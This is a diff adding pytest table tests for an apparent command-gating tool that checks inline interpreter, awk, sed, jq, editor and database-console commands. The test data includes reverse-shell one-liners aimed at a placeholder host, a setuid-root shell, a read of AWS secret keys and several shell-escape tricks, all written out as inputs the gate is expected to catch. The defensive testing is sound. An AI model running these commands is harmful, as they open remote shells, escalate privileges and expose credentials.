@@ -1,0 +1,129 @@
+"""Table tests of the interpreter family (CG-INTERP-*): inline code read, everyday use allowed."""
+
+from __future__ import annotations
+
+import pytest
+
+from clawgate.decision import Outcome
+from clawgate.engine import Engine
+from clawgate.shell import parse_one
+from clawgate.validators.base import Context
+from clawgate.validators.codescan import scan
+from clawgate.validators.interpreters import InlineCode
+from clawgate.validators.textprograms import SedCommands
+
+ENGINE = Engine()
+CTX = Context("/tmp/workspace", "/tmp/workspace", "/root")
+ALLOW, ASK, DENY = Outcome.ALLOW, Outcome.ASK, Outcome.DENY
+
+
+def decide(line: str) -> tuple[Outcome, set[str]]:
+    decision = ENGINE.check(line, cwd="/tmp/workspace")
+    return decision.outcome, {r.rule_id for r in decision.reasons}
+
+
+@pytest.mark.parametrize(("line", "expected", "rule"), [
+    ("python3 -c 'import os; os.system(\"id\")'", ASK, "CG-INTERP-001"),
+    ("python -c 'import pty; pty.spawn(\"/bin/sh\")'", ASK, None),
+    ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));"
+     "os.dup2(s.fileno(),0);pty.spawn(\"sh\")'", DENY, "CG-INTERP-001"),
+    ("python3.11 -c 'import subprocess; subprocess.run([\"ls\"])'", ASK, "CG-INTERP-001"),
+    ("python -c 'import ctypes; ctypes.CDLL(\"./x.so\")'", ASK, "CG-INTERP-001"),
+    ("node -e 'require(\"child_process\").execSync(\"id\")'", ASK, "CG-INTERP-001"),
+    ("perl -e 'exec \"/bin/sh\"'", ASK, None),
+    ("perl -MPOSIX -e 'POSIX::setuid(0); exec \"/bin/sh\"'", DENY, "CG-INTERP-001"),
+    ("perl -ne 'print `id`'", ASK, "CG-INTERP-001"),
+    ("ruby -e 'system(\"id\")'", ASK, "CG-INTERP-001"),
+    ("ruby -rsocket -e 'c=TCPSocket.new(\"h\",1);IO.popen(c.gets)'", DENY, "CG-INTERP-001"),
+    ("php -r 'echo shell_exec(\"id\");'", ASK, "CG-INTERP-001"),
+    ("lua -e 'os.execute(\"id\")'", ASK, "CG-INTERP-001"),
+    ("R --no-save -e 'system(\"id\")'", ASK, "CG-INTERP-001"),
+    ("julia -e 'run(`id`)'", ASK, "CG-INTERP-001"),
+    ('python3 -c "$CODE"', ASK, "CG-INTERP-001"),
+    ("python3 -c 'eval(input())'", ASK, "CG-INTERP-001"),
+    ("python3", ASK, "CG-INTERP-002"),
+    ("gdb", ASK, "CG-INTERP-002"),
+    ("vim", ASK, "CG-INTERP-002"),
+    # awk, sed, jq
+    ("awk 'BEGIN {system(\"id\")}'", ASK, "CG-INTERP-003"),
+    ("gawk '{print | \"sh\"}' notes.txt", ASK, "CG-INTERP-003"),
+    ("awk 'BEGIN {\"id\" | getline x; print x}'", ASK, "CG-INTERP-003"),
+    ("gawk 'BEGIN {s=\"/inet/tcp/0/h/1\"; print 1 |& s}'", DENY, "CG-INTERP-003"),
+    ("sed -n '1e id' /etc/hosts", ASK, "CG-INTERP-004"),
+    ("sed e", ASK, "CG-INTERP-004"),
+    ("sed 's/.*/id/e' notes.txt", ASK, "CG-INTERP-004"),
+    ("sed -n 'w /tmp/out' notes.txt", ASK, "CG-INTERP-004"),
+    ("jq -n env", ASK, "CG-INTERP-005"),
+    ("jq '$ENV.AWS_SECRET_ACCESS_KEY' data.json", ASK, "CG-INTERP-005"),
+    ("jq -r 'input_filename' a.json", ASK, "CG-INTERP-005"),
+    # editors and consoles
+    ("vi -c ':!/bin/sh' /dev/null", ASK, "CG-INTERP-006"),
+    ("vim -c ':terminal' notes.txt", ASK, "CG-INTERP-006"),
+    ("vim +'py3 import os' notes.txt", ASK, "CG-INTERP-006"),
+    ("gdb -nx -ex '!id' -ex quit", ASK, "CG-INTERP-007"),
+    ("mysql -e '\\! id'", ASK, "CG-INTERP-007"),
+    ("psql -c 'COPY t FROM PROGRAM $$id$$'", ASK, "CG-INTERP-007"),
+    ("sqlite3 db.sqlite '.shell id'", ASK, "CG-INTERP-007"),
+    ("dc -e '!id'", ASK, "CG-INTERP-007"),
+])
+def test_caught(line: str, expected: Outcome, rule: str | None) -> None:
+    outcome, rules = decide(line)
+    assert outcome is expected, rules
+    if rule is not None:
+        assert rule in rules
+
+
+@pytest.mark.parametrize("line", [
+    "python3 -c 'print(1+1)'",
+    "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])' < data.json",
+    "python3 -c 'import re; print(re.compile(\"a\").match(\"a\"))'",
+    "python3 tool.py --flag",
+    "python3 -m json.tool data.json",
+    "node -e 'console.log(process.version)'",
+    "node --version",
+    "perl -pi -e 's/foo/bar/g' notes.txt",
+    "perl -lane 'print $F[0]' data.txt",
+    "ruby -e 'puts 1'",
+    "php -r 'echo 1+1;'",
+    "awk '{print $1}' src/main.py",
+    "awk -F ',' '{print $NF}' data.csv",
+    "awk '/foo|bar/ {print $2}' notes.txt",
+    "awk '$1 > 3 || $2 < 1' data.txt",
+    "awk -f report.awk data.txt",
+    "sed -n '1,5p' notes.txt",
+    "sed 's/foo/bar/g' notes.txt",
+    "sed -e 's/a/b/' -e 's/c/d/' notes.txt",
+    "sed '/^$/d' notes.txt",
+    "sed -n 'p' notes.txt",
+    "jq .name data.json",
+    "jq -f filter.jq data.json",
+    "jq --arg env prod '.[$env]' data.json",
+    "vim notes.txt",
+    "vim -c 'set nu' +10 notes.txt",
+    "vim -c '%s/a/b/g' -c 'wq' notes.txt",
+    "psql -c 'select 1'",
+    "sqlite3 db.sqlite 'select count(*) from t'",
+    "gdb -batch -ex bt ./a.out core",
+])
+def test_harmless_lookalikes(line: str) -> None:
+    outcome, rules = decide(line)
+    assert outcome is ALLOW, rules
+
+
+def test_inline_code_unwraps_spelled_commands() -> None:
+    verdict = InlineCode().check(parse_one("python3 -c 'import os; os.system(\"make all\")'"),
+                                 CTX)
+    assert verdict.outcome is ASK
+    assert verdict.nested == ("make all",)
+
+
+def test_scan_reports_each_finding() -> None:
+    found = scan("import socket, os; s=socket.socket(); os.dup2(0, 1); os.execl('/bin/sh')")
+    assert found.exec
+    assert found.network
+    assert not found.native
+
+
+def test_sed_e_command_carries_the_command() -> None:
+    verdict = SedCommands().check(parse_one("sed -n '1e exec id' notes.txt"), CTX)
+    assert verdict.nested == ("exec id",)
